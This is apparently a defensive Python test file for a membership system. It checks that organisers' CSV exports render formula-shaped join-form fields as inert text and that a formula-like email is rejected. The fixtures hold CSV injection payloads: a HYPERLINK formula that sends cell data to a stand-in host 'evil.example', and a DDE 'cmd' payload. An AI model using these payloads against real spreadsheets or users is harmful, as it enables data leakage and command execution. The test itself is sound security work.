"""Exports are safe to open (#14.10): a person joins with a name built to run as a spreadsheet formula; the CSV
an organiser downloads shows it as text, and an email address built like a formula is refused outright."""

from __future__ import annotations

import csv
import io
import uuid

import asyncpg
import httpx

from shared.exports import csv_text
from tests.support.inprocess import poll

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your badge")',
    "skills": "+cmd|' /C calc'!A0",
    "time_available": "-2+3",
    "organisation_name": "@SUM(1+1)",
}


async def test_a_formula_typed_into_the_join_form_is_text_in_the_organisers_export(
    gateway: httpx.AsyncClient, membership_db: asyncpg.Connection, network_organiser: dict[str, str]
) -> None:
    email = f"formula-{uuid.uuid4().hex[:12]}@example.org"
    form = {**FORMULAS, "email": email, "postcode": "B1 1AA", "email_consent": "yes"}
    joined = await gateway.post("/join", data=form)
    assert joined.status_code in (200, 303), joined.text
    await poll(lambda: membership_db.fetchval("SELECT 1 FROM members WHERE email_normalised = $1", email), 60)

    export = await gateway.get("/members/export.csv", params={"q": email}, headers=network_organiser)
    assert export.status_code == 200 and export.headers["cache-control"] == "no-store"
    [row] = [r for r in csv.DictReader(io.StringIO(export.text)) if r["email"] == email]
    assert row["name"] == "'" + FORMULAS["name"]
    assert row["skills"] == "'" + FORMULAS["skills"]
    assert row["time_available"] == "'" + FORMULAS["time_available"]
    assert row["organisation"] == "'" + FORMULAS["organisation_name"]


async def test_an_email_address_built_like_a_formula_is_refused_and_nothing_is_stored(
    gateway: httpx.AsyncClient, membership_db: asyncpg.Connection
) -> None:
    email = f'=hyperlink("http://evil.example")+{uuid.uuid4().hex[:8]}@example.org'
    refused = await gateway.post("/join", data={"name": "Mallory", "email": email, "postcode": "B1 1AA",
                                                "email_consent": "yes"})
    assert refused.status_code == 422 and "correct format" in refused.text
    assert await membership_db.fetchval("SELECT count(*) FROM members WHERE email_normalised = $1", email) == 0


def test_every_cell_of_every_export_is_neutralised_the_email_column_included() -> None:
    rows = list(csv.reader(io.StringIO(csv_text([["email", "n"], ["=1+1@x.org", -5], ["\tx", "ok"], ["\r=y", 0]]))))
    assert rows == [["email", "n"], ["'=1+1@x.org", "-5"], ["'\tx", "ok"], ["'\r=y", "0"]]
